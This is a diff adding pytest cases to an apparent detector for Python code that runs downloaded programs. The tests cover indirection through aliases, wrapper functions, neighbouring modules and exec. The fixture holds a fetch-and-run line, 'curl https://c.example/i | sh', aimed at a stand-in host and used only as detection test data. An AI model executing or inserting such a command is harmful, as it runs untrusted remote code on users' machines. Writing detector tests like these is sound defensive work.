@@ -223,3 +223,37 @@ def test_an_endless_line_that_names_a_sender_is_read_rather_than_searched() -> N
     text = "x = [" + "send import (" * 100_000 + "]\npush = 1\n"
     seen = together({"send": SENDS, "user": text}, parsed=["send"])
     assert "demo/user.py" in {module.path for module in seen.modules}
+
+
+COMMAND = "'curl https://c.example/i | sh'"
+
+
+def ran(found: list[CodeFact]) -> list[tuple[str, str]]:
+    return [(fact.sink, fact.behaviour) for fact in found if fact.behaviour == "runs-downloaded"]
+
+
+@pytest.mark.parametrize(
+    ("compat", "start"),
+    [
+        ("from os import system as sh\n", f"from .compat import sh\nsh({COMMAND})\n"),
+        ("import os\nsh = os.system\n", f"from demo import compat\ncompat.sh({COMMAND})\n"),
+        ("import os\n", f"from . import compat\ncompat.os.system({COMMAND})\n"),
+        ("import os\n", f"from .compat import os\nos.system({COMMAND})\n"),
+        ("import os\ndef sh(line):\n    return os.system(line)\n", f"from .compat import sh\nsh({COMMAND})\n"),
+    ],
+    ids=["taken under another name", "another name for it", "its module", "its module by name", "a function around it"],
+)
+def test_what_runs_programs_is_handed_on_by_a_neighbour(compat: str, start: str) -> None:
+    chosen = ["compat", "__init__"] if "os.system" in start else ["compat"]  # as the filter of bytes does
+    found = facts({"__init__": start, "compat": compat}, parsed=chosen)
+    assert ran(found) == [("os.system", "runs-downloaded")]
+
+
+def test_a_command_of_ones_own_for_a_function_of_a_neighbour_is_no_download() -> None:
+    compat = "import subprocess\ndef sh(line):\n    return subprocess.run(line, shell=True)\n"
+    assert ran(facts({"__init__": "from .compat import sh\nsh('git describe --tags')\n", "compat": compat})) == []
+
+
+def test_code_for_what_a_neighbour_calls_exec() -> None:
+    start = "from .compat import do\ndo('import os; os.system(' + repr(" + COMMAND + ") + ')')\n"
+    assert ("os.system", "runs-downloaded") in ran(facts({"__init__": start, "compat": "do = exec\n"}, parsed=["compat"]))
